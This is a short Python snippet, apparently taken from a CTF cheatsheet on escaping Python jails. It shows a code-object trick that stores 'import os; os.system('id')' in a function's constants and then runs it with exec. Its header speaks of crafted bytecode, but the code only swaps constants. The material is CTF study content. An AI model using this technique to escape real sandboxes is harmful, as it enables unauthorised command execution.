# Source: github.com/salvatore-abello/python-ctf-cheatsheet pyjails/README.md (Bytecode2RCE: CodeType(...) with crafted co_code)
# Family: type-trick
# What: type(f.__code__) is CodeType: builds a code object from raw bytes
def x():
    pass

CT = type(x.__code__)
x.__code__ = x.__code__.replace(co_consts=(None, "import os; os.system('id')"))
exec(x.__code__.co_consts[1])
print(CT)
